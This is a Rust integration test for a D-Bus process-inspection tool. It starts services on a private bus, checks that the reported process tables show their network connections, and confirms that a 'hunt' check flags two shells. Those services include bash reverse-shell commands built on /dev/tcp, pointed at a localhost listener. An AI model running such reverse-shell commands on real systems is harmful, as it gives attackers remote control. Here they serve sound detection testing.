//! What a process D-Bus activated is connected to, on a real private bus
//! (never the host's): a service whose script turns into a bash reading
//! and writing a TCP connection to a listener this test holds (a reverse
//! shell), another bash holding such a connection on a spare descriptor,
//! a Python service that only listens, one running a script file that
//! holds a connection, and a benign service with ordinary
//! pipes. `stdio` and `remote_addresses` show the connection in both
//! process tables, the high check names the two shells and neither Python service.
mod common;

use common::bus::Bus;
use common::cli::{cell, query_rows, JsonRow};
use std::net::TcpListener;
use std::process::Command;
use std::time::{Duration, Instant};

const BIN: &str = env!("CARGO_BIN_EXE_osquery-dbus");
const COLS: &str = "pid, name, cmdline, stdio, remote_addresses, listening, connections_note";

/// Polls (bounded, generous for a loaded machine) until `done` holds.
fn wait_rows(table: &str, done: impl Fn(&[JsonRow]) -> bool) -> Vec<JsonRow> {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let rows = query_rows(None, None, &format!("SELECT {COLS} FROM {table}"));
        if done(&rows) {
            return rows;
        }
        assert!(Instant::now() < deadline, "{table}: {rows:?}");
        std::thread::sleep(Duration::from_millis(150));
    }
}

fn find<'a>(rows: &'a [JsonRow], needle: &str) -> Option<&'a JsonRow> {
    rows.iter().find(|r| cell(r, "cmdline").contains(needle))
}

#[test]
fn a_reverse_shell_started_by_the_bus_is_seen_and_flagged() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let mut bus = Bus::session();
    let shell = bus.script(
        "revshell.sh",
        &format!("exec bash -c 'exec 0<>/dev/tcp/127.0.0.1/{port} 1>&0; read line'"),
    );
    bus.plant("org.example.Rev", &shell.display().to_string());
    let side = bus.script(
        "side.sh",
        &format!("exec bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; read -u 3 line'"),
    );
    bus.plant("org.example.Side", &side.display().to_string());
    let listens = bus.script(
        "listens.sh",
        "exec /usr/bin/python3 -c 'import socket, time; s = socket.socket(); \
         s.bind((\"127.0.0.1\", 0)); s.listen(); time.sleep(297)'",
    );
    bus.plant("org.example.Listens", &listens.display().to_string());
    // A Python service running a script file that holds a connection:
    // `remote_addresses` shows it, the check leaves it to others.
    let client = bus.dir.path().join("client.py");
    std::fs::write(
        &client,
        format!(
            "import socket, time\ns = socket.create_connection((\"127.0.0.1\", {port}))\ntime.sleep(296)\n"
        ),
    )
    .expect("client.py");
    let client_sh = bus.script(
        "client.sh",
        &format!("exec /usr/bin/python3 {}", client.display()),
    );
    bus.plant("org.example.Client", &client_sh.display().to_string());
    let benign = bus.script("benign.sh", "sleep 298 | cat\nwait");
    bus.plant("org.example.Benign", &benign.display().to_string());
    for name in [
        "org.example.Rev",
        "org.example.Side",
        "org.example.Listens",
        "org.example.Client",
        "org.example.Benign",
    ] {
        bus.activate(name);
    }
    // Both shells and the client connect; keep the accepted ends open while we look.
    listener.set_nonblocking(true).expect("nonblocking");
    let mut peers = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(20);
    while peers.len() < 3 {
        match listener.accept() {
            Ok((s, _)) => peers.push(s),
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                assert!(Instant::now() < deadline, "the services never connected");
                std::thread::sleep(Duration::from_millis(50));
            }
            Err(e) => panic!("accept: {e}"),
        }
    }
    let ours = format!("127.0.0.1:{port}");
    let needle_rev = format!("0<>/dev/tcp/127.0.0.1/{port}");
    let needle_side = format!("3<>/dev/tcp/127.0.0.1/{port}");

    let ready = |rows: &[JsonRow]| {
        [needle_rev.as_str(), needle_side.as_str(), "python3 -c"]
            .iter()
            .all(|n| find(rows, n).is_some())
            && find(rows, "python3 -c").is_some_and(|r| !cell(r, "listening").is_empty())
            && find(rows, &needle_side).is_some_and(|r| !cell(r, "remote_addresses").is_empty())
            && find(rows, "client.py").is_some_and(|r| !cell(r, "remote_addresses").is_empty())
    };
    for table in ["dbus_daemon_children", "dbus_activated_processes"] {
        let rows = wait_rows(table, ready);
        let rev = find(&rows, &needle_rev).expect("reverse shell");
        assert_eq!(cell(rev, "name"), "bash");
        let stdio = cell(rev, "stdio");
        assert!(
            stdio.starts_with("0=socket:tcp 1=socket:tcp 2="),
            "{table}: {stdio}"
        );
        assert_eq!(cell(rev, "remote_addresses"), ours, "{table}");
        assert_eq!(cell(rev, "listening"), "");

        let side_row = find(&rows, &needle_side).expect("side shell");
        let stdio = cell(side_row, "stdio");
        assert!(!stdio.contains("socket:tcp"), "{table}: {stdio}");
        assert_eq!(cell(side_row, "remote_addresses"), ours, "{table}");

        let cl = find(&rows, "client.py").expect("client");
        assert_eq!(cell(cl, "remote_addresses"), ours, "{table}");

        let py = find(&rows, "python3 -c").expect("listener");
        let listening = cell(py, "listening");
        assert!(listening.starts_with("tcp:127.0.0.1:"), "{listening}");
        assert_eq!(cell(py, "remote_addresses"), "");
        assert!(!cell(py, "stdio").contains("socket:tcp"));
    }
    // The benign service's pipeline is rows of the activated table only
    // (its children are not the bus's), with pipes.
    let rows = wait_rows("dbus_activated_processes", |rows| {
        find(rows, "sleep 298").is_some() && rows.iter().any(|r| cell(r, "name") == "cat")
    });
    let sleeper = find(&rows, "sleep 298").expect("sleep");
    assert!(
        cell(sleeper, "stdio").contains("1=pipe"),
        "{}",
        cell(sleeper, "stdio")
    );
    let cat = rows.iter().find(|r| cell(r, "name") == "cat").expect("cat");
    assert!(cell(cat, "stdio").starts_with("0=pipe"));

    let out = Command::new(BIN)
        .args([
            "hunt",
            "--json",
            "--only",
            "network_connected_activated_processes",
        ])
        .output()
        .expect("hunt");
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    let check = &report["checks"][0];
    assert_eq!(check["severity"], "high");
    assert_ne!(check["status"], "failed", "{check}");
    let rows = check["rows"].as_array().expect("rows");
    let mut flagged: Vec<String> = rows
        .iter()
        .map(|r| r["cmdline"].as_str().unwrap_or_default().to_string())
        .collect();
    // Both shells, each once; not the Python script, nothing benign.
    flagged.sort();
    assert_eq!(flagged.len(), 2, "{flagged:?}");
    assert!(flagged[0].contains(&needle_rev), "{flagged:?}");
    assert!(flagged[1].contains(&needle_side), "{flagged:?}");
    drop(peers);
}
